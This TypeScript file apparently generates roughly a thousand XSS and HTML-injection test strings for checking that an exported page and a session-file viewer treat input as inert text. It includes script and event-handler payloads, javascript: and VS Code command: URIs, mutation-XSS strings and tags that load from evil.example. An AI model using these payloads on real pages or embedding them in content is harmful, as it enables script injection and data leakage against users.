/*
 * Texts that would run something or ask the network if a page took them for more than text.
 */

/** 500 ways to get a page to run or fetch something: what is run, in what, behind what. */
function carried(): readonly string[] {
  const runs = [
    'alert(1)',
    'fetch("//x.invalid")',
    'location="//x.invalid"',
    'import("//x.invalid")',
    '`${alert`1`}`',
  ];
  const carriers: readonly ((run: string) => string)[] = [
    (run) => `<script>${run}</script>`,
    (run) => `<img src=x onerror=${run}>`,
    (run) => `<svg/onload=${run}>`,
    (run) => `<a href="javascript:${run}">x</a>`,
    (run) => `[x](javascript:${run})`,
    (run) => `![x](https://x.invalid/?${run})`,
    (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    (run) => `<style>@import '//x.invalid/${run}'</style>`,
    (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    (run) => `<base href="//x.invalid/"><form action="javascript:${run}"><button>`,
    (run) => `<details open ontoggle=${run}>`,
    (run) =>
      `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
    (run) => `<object data="data:text/html,<script>${run}</script>">`,
    (run) => `<video><source onerror=${run}></video>`,
    (run) => `<link rel=stylesheet href="//x.invalid/${run}">`,
    (run) => `image/svg+xml" onload="${run}`,
    (run) => `[x][y]\n\n[y]: javascript:${run}`,
    (run) => `<x style="background:url(//x.invalid/${run})">`,
    (run) => `<!--><img src=x onerror=${run}>-->`,
    (run) => `command:workbench.action.terminal.sendSequence?${run}`,
  ];
  const openers = ['', '"', "'", '-->', '</style></head><body>'];
  return openers.flatMap((open) =>
    carriers.flatMap((carry) => runs.map((run) => open + carry(run))),
  );
}

/** What tries to become more than text: each way in, around each thing that would run or ask the network. */
const ways: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `</p>${inner}`,
  (inner) => `</title></style></code>${inner}`,
  (inner) => `<!--><--${inner}-->`,
  (inner) => `]]>${inner}`,
  (inner) => `&lt;${inner}&gt;`,
  (inner) => `\u0000${inner}\u202e`,
  (inner) => inner.toUpperCase(),
  (inner) => inner.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e') + inner,
  (inner) => `<svg><![CDATA[${inner}]]></svg>`,
  (inner) => `<math><mtext>${inner}`,
  (inner) => `<noscript>${inner}</noscript>`,
  (inner) => `\n\n${inner}\t`,
  (inner) => `{{${inner}}}$\{${inner}}`,
];
const things: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/x>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="command:workbench.action.terminal.new">x</a>',
  '<a href="https://evil.example">x</a>',
  '<form action=//evil.example><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=//evil.example/x autoplay>',
  '<audio src=//evil.example/x onerror=alert(1)>',
  '<object data=//evil.example/x>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<style>@import "//evil.example/x";</style>',
  '<style>body{background:url(//evil.example/x)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<template><script>alert(1)</script></template>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<div style="background:url(//evil.example/x)">',
  '<p onmouseover=alert(1)>x</p>',
  '<isindex type=image src=//evil.example>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<portal src=//evil.example>',
  '<picture><source srcset=//evil.example/x></picture>',
  '<button formaction=javascript:alert(1)>x</button>',
];

/** 500 texts for an exported page. */
export const exportPayloads: readonly string[] = carried();

/** 512 texts for the page that says what is in a session file. */
export const importPayloads: readonly string[] = ways.flatMap((way) =>
  things.map((thing) => way(thing)),
);
